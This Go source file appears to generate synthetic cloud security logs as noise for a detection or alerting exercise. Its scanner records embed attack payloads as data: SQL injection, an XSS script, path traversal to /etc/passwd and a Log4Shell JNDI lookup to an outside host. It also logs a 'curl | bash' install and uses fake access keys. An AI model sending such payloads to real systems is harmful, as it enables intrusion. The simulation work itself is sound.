package traffic

import (
	"iter"
	"strconv"
	"time"
)

// batchLogs is how many logs a product collects before it writes them.
const batchLogs = 40

// Noise yields n ordinary records between start and end, spread evenly over time and over every Logstore of the world, in
// batches by Logstore. Some of them look bad and are not; a few, far apart and with nothing in common, are worth an alert of
// medium level each. The sequence can be read several times and is the same every time.
func (g *Generator) Noise(n int, start, end time.Time) iter.Seq[Batch] {
	return func(yield func(Batch) bool) {
		s := g.source(noiseStream)
		open := map[store]int{} // where in order
		var order []Batch
		step := end.Sub(start) / time.Duration(max(n, 1))
		for i := range n {
			to, log := s.ordinary(start.Add(time.Duration(i)*step + time.Duration(s.Int64N(int64(max(step, 1))))))
			at, ok := open[to]
			if !ok {
				at = len(order)
				open[to], order = at, append(order, to.batch())
			}
			order[at].Logs = append(order[at].Logs, log)
			if len(order[at].Logs) == batchLogs {
				if !yield(order[at]) {
					return
				}
				order[at].Logs = nil
			}
		}
		for _, b := range order {
			if len(b.Logs) > 0 && !yield(b) {
				return
			}
		}
	}
}

// ordinary makes one record of everyday work.
func (s *source) ordinary(at time.Time) (store, Log) {
	w := s.world
	switch p := s.IntN(100); {
	case p < 14:
		return w.actiontrail(w.Shop), s.ordinaryCall(at, w.Shop)
	case p < 24:
		return w.actiontrail(w.Payments), s.ordinaryCall(at, w.Payments)
	case p < 32:
		return w.actiontrail(w.Data), s.ordinaryCall(at, w.Data)
	case p < 52:
		return w.waf(w.Shop), s.ordinaryRequest(at, w.Shop)
	case p < 64:
		return w.waf(w.Payments), s.ordinaryRequest(at, w.Payments)
	case p < 72:
		return w.cloudFirewall(w.Shop), s.ordinarySession(at, w.Shop, shopPrivate)
	case p < 80:
		return w.cloudFirewall(w.Payments), s.ordinarySession(at, w.Payments, payPrivate)
	case p < 90:
		topic, log := s.ordinaryHost(at)
		return w.securityCenter(w.Payments, topic), log
	default:
		return w.oss(w.Data), s.ordinaryAccess(at)
	}
}

// engineer returns one of the people of an account; everybody has an address and a key of their own.
func (s *source) engineer(account string) (by caller, address string) {
	i := s.IntN(8)
	name := []string{"li.wei", "wang.fang", "zhang.min", "liu.yang", "chen.jie", "yang.lei", "zhao.ping", "wu.hao"}[i]
	n := strconv.Itoa(i)
	return user(account, name, "LTAI5tEngineer"+account[12:]+"00"+n), "203.0.113." + strconv.Itoa(100+i+8*int(account[15]-'0'))
}

// readCalls are operations that tools call all day.
var readCalls = []struct{ service, name string }{
	{"Ecs", "DescribeInstances"},
	{"Ecs", "DescribeDisks"},
	{"Ecs", "DescribeSecurityGroups"},
	{"Vpc", "DescribeVpcs"},
	{"Vpc", "DescribeEipAddresses"},
	{"Slb", "DescribeLoadBalancers"},
	{"Rds", "DescribeDBInstances"},
	{"Ram", "ListRoles"},
	{"Ram", "GetUser"},
	{"Sls", "ListProject"},
	{"Kms", "ListKeys"},
	{"Oss", "GetBucketAcl"},
	{"Oss", "GetBucketInfo"},
	{"Sts", "GetCallerIdentity"},
	{"Actiontrail", "DescribeTrails"},
}

func (s *source) ordinaryCall(at time.Time, account string) Log {
	by, address := s.engineer(account)
	switch p := s.IntN(100); {
	case p < 45: // monitoring looks around with a role of its own account
		c := pick(s, readCalls...)
		monitor := role(account, "monitor", "cms", "STS.NMonitor"+account[12:], account)
		return s.call(at, call{service: c.service, name: c.name, read: true, account: account, by: monitor, from: "203.0.113.21", agent: goAgent})
	case p < 65:
		c := pick(s, readCalls...)
		by.key = ""
		return s.call(at, call{service: c.service, name: c.name, read: true, account: account, by: by, from: address, agent: consoleAgent})
	case p < 75:
		return s.signIn(at, account, by, address)
	case p < 95:
		return s.deployment(at, account)
	default:
		return s.nearMissCall(at, account, by, address)
	}
}

// signIn is a RAM user who signs in with a second factor; sometimes the password is wrong first.
func (s *source) signIn(at time.Time, account string, by caller, address string) Log {
	by.key = ""
	c := call{
		service: "AasSub", name: "ConsoleSignin", account: account, by: by, from: address, agent: "Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
		more: map[string]any{
			"eventType": "ConsoleSignin", "eventSource": "signin.aliyun.com", "isGlobal": true,
			"additionalEventData": map[string]any{"callbackUrl": "https://home.console.aliyun.com/", "mfaChecked": "true"},
		},
	}
	if s.once(20) {
		c.errorCode = "InvalidUser.Password"
	}
	return s.call(at, c)
}

// deployment is the pipeline: it assumes a role of its own account and rolls out.
func (s *source) deployment(at time.Time, account string) Log {
	key := "LTAI5tDeploy" + account[12:] + "0001"
	if account == s.world.Shop {
		key = s.world.LeakedKey
	}
	session := "STS.NDeploy" + account[12:] + strconv.Itoa(s.IntN(40))
	if s.once(4) {
		return s.call(at, assume(account, user(account, leakedUser, key), ciAddress, account, "deploy", "build-"+strconv.Itoa(s.IntN(999)), session))
	}
	c := pick(s, []string{"Fc", "UpdateFunction"}, []string{"Ecs", "RunInstances"}, []string{"Slb", "SetBackendServers"}, []string{"Oss", "PutBucketLifecycle"})
	return s.call(at, call{service: c[0], name: c[1], account: account, by: role(account, "deploy", "build", session, account), from: ciAddress, agent: goAgent})
}

// nearMissCall looks like an attack at first sight. One in about forty is worth a look: a key that is denied a call.
func (s *source) nearMissCall(at time.Time, account string, by caller, address string) Log {
	c := call{service: "Ram", account: account, by: by, from: address, agent: goAgent}
	switch s.IntN(8) {
	case 0:
		c.name, c.params = "AttachPolicyToUser", map[string]any{"PolicyType": "System", "PolicyName": "ReadOnlyAccess", "UserName": "auditor"}
	case 1:
		c.name, c.params = "DetachPolicyFromUser", map[string]any{"PolicyType": "System", "PolicyName": "AdministratorAccess", "UserName": "former"}
	case 2:
		c.name, c.params = "CreateAccessKey", map[string]any{"UserName": by.name}
		c.response = map[string]any{"AccessKey": map[string]any{"AccessKeyId": by.key[:len(by.key)-1] + "9", "Status": "Active"}}
	case 3:
		c.service, c.name, c.params = "Oss", "PutBucketAcl", map[string]any{"bucketName": dataBucket, "acl": "private"}
		c.resourceType, c.resourceName = "ACS::OSS::Bucket", dataBucket
	case 4:
		c.service, c.name, c.params = "Actiontrail", "StartLogging", map[string]any{"Name": "audit"}
	case 5: // the pipeline's role may not do everything
		c.by, c.from, c.name, c.errorCode = role(account, "deploy", "build", "STS.NDeploy"+account[12:]+"77", account), ciAddress, "ListUsers", "NoPermission"
	case 6:
		c.name, c.errorCode = "GetUser", "EntityNotExist.User"
	default:
		c.name, c.read = "ListUsers", true
		if s.once(5) {
			c.errorCode = "NoPermission"
		}
	}
	return s.call(at, c)
}

var browsers = []string{
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/126.0", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X)",
	"Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) Safari/605.1.15", "okhttp/4.12.0",
}

// visitor returns the address of a customer.
func (s *source) visitor() string { return "192.0.2." + strconv.Itoa(100+s.IntN(150)) }

func (s *source) ordinaryRequest(at time.Time, account string) Log {
	host, origin := pick(s, shopHost, shopHost, shopAPI), shopPrivate+":443"
	if account == s.world.Payments {
		host, origin = payHost, payPrivate+":443"
	}
	r := request{account: account, host: host, client: s.visitor(), method: "GET", agent: pick(s, browsers...), origin: origin, status: 200, query: "-"}
	switch p := s.IntN(1000); {
	case p < 700:
		r.path, r.query = pick(s, "/", "/item", "/cart", "/search", "/help/select"), "id="+strconv.Itoa(s.IntN(5000))
	case p < 900:
		r.method, r.path = "POST", pick(s, "/api/login", "/api/order", "/api/pay")
		r.status = pick(s, 200, 200, 200, 201, 401)
	case p < 985:
		r.path, r.status = "/static/"+s.hex(8)+".js", pick(s, 200, 304, 404)
	case p < 990: // a search for words that look like SQL
		r.path, r.query = "/search", "q=union%20select%20committee"
	case p < 997:
		return s.scanner(at, r)
	default: // a rule of the customer's own blocks a country
		r.status, r.origin = 405, "-"
		r.hit = []KV{{"final_action", "block"}, {"final_plugin", "acl"}, {"final_rule_id", "20001"}, {"final_rule_type", "custom"}, {"acl_action", "block"}, {"acl_test", "false"}}
	}
	return s.request(at, r)
}

// scanner is one hit of the background noise of the internet, each from an address of its own.
func (s *source) scanner(at time.Time, r request) Log {
	r.client, r.agent, r.status, r.origin = "198.51.100."+strconv.Itoa(100+s.IntN(150)), "Mozilla/5.0 zgrab/0.x", 405, "-"
	switch s.IntN(4) {
	case 0:
		r.path, r.query, r.hit = "/item", "id=1%27%20or%201=1", wafHit("sqli", "113406", true)
	case 1:
		r.path, r.query, r.hit = "/search", "q=%3Cscript%3Ealert(1)%3C/script%3E", wafHit("xss", "114001", true)
	case 2:
		r.path, r.query, r.hit = "/download", "f=../../../etc/passwd", wafHit("lfilei", "115010", true)
	default:
		r.path, r.query, r.hit = "/", "x=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.250%2Fa%7D", wafHit("code_exec", "116021", true)
	}
	return s.request(at, r)
}

func (s *source) ordinarySession(at time.Time, account, private string) Log {
	public := "192.0.2.3" + account[15:]
	c := session{account: account, direction: "out", src: public, private: private, dst: "203.0.113." + strconv.Itoa(160+s.IntN(60)), port: 443, app: "HTTPS", result: "pass"}
	switch p := s.IntN(100); {
	case p < 60:
	case p < 70:
		c.port, c.app = 123, "NTP"
	case p < 97:
		c.direction, c.src, c.private, c.dst = "in", s.visitor(), "", public
	case p < 99: // somebody knocks
		c.direction, c.src, c.private, c.dst, c.port, c.app, c.result = "in", "198.51.100."+strconv.Itoa(100+s.IntN(150)), "", public, pick(s, 22, 3389, 6379), "Unknown", "drop"
	default: // a test of a researcher is stopped
		c.dst, c.port, c.app, c.result, c.ips, c.attack = "203.0.113.240", 3333, "Unknown", "drop", "Mining pool communication", "Mining Behavior"
	}
	return s.session(at, c)
}

func (s *source) ordinaryHost(at time.Time) (topic string, log Log) {
	w := s.world
	if s.once(12) {
		_, address := s.engineer(w.Payments)
		return "aegis-log-login", s.log(at, KV{"owner_id", w.Payments}, KV{"uuid", "5d83b26b-0000-4000-8000-00000000000a"}, KV{"instance_id", payInstance},
			KV{"host_ip", payPrivate}, KV{"src_ip", address}, KV{"dst_port", "22"}, KV{"login_type", "SSHLOGIN"}, KV{"username", "ops"}, KV{"login_count", "1"},
			KV{"sas_group_name", "default"}, KV{"start_time", strconv.FormatInt(at.Unix(), 10)})
	}
	p := process{account: w.Payments, host: payPrivate, instance: payInstance, user: "root", parent: "/usr/sbin/crond", parentLine: "crond -n", cwd: "/"}
	switch s.IntN(6) {
	case 0:
		p.path, p.line = "/usr/bin/logrotate", "logrotate /etc/logrotate.conf"
	case 1: // a health check by the application
		p.path, p.line, p.user, p.parent, p.parentLine = "/usr/bin/curl", "curl -fsS http://127.0.0.1:8080/health", "app", "/usr/lib/jvm/bin/java", "java -jar pay.jar"
	case 2: // an administrator installs an agent
		p.path, p.line, p.parent, p.parentLine = "/bin/bash", "bash -c curl -fsSL https://repo.example.com/agent.sh | bash", "/bin/bash", "-bash"
	case 3: // a download into a file
		p.path, p.line, p.user, p.parent, p.parentLine = "/usr/bin/wget", "wget -q https://repo.example.com/rates.csv -O /tmp/rates.csv", "app", "/usr/lib/jvm/bin/java", "java -jar pay.jar"
	case 4:
		p.path, p.line, p.user, p.parent, p.parentLine = "/bin/sh", "sh -c convert in.png out.jpg", "www", "/usr/sbin/php-fpm", "php-fpm: pool www"
	default:
		p.path, p.line = "/usr/bin/find", "find /var/log -mtime +30 -delete"
	}
	return "aegis-log-process", s.process(at, p)
}

func (s *source) ordinaryAccess(at time.Time) Log {
	a := access{
		account: s.world.Data, bucket: pick(s, dataBucket, "corp-reports"), operation: "GetObject", method: "GET", requester: s.world.Data,
		key: "LTAI5tDataApp000000" + strconv.Itoa(s.IntN(4)), client: "203.0.113.22", agent: "aliyun-sdk-go/2.2", status: 200, size: 2000 + s.IntN(4<<20),
		object: "reports%2F" + s.hex(6) + ".parquet",
	}
	switch p := s.IntN(100); {
	case p < 52:
	case p < 55: // the application throws old reports away
		a.operation, a.method, a.status = "DeleteObject", "DELETE", 204
	case p < 85:
		a.operation, a.method = "PutObject", "PUT"
	case p < 90: // the nightly restore test reads a large object with a key
		a.object, a.size = "db%2Fdump-2025.sql.gz", 734003200
	case p < 97: // small public files of the web site
		a.bucket, a.requester, a.key, a.client, a.agent, a.size, a.object = "shop-static", "-", "-", s.visitor(), pick(s, browsers...), 900+s.IntN(200000), "img%2F"+s.hex(6)+".png"
	default: // somebody tries names of buckets
		a.requester, a.key, a.client, a.agent, a.status = "-", "-", "198.51.100."+strconv.Itoa(100+s.IntN(150)), "python-requests/2.31", 403
	}
	return s.access(at, a)
}
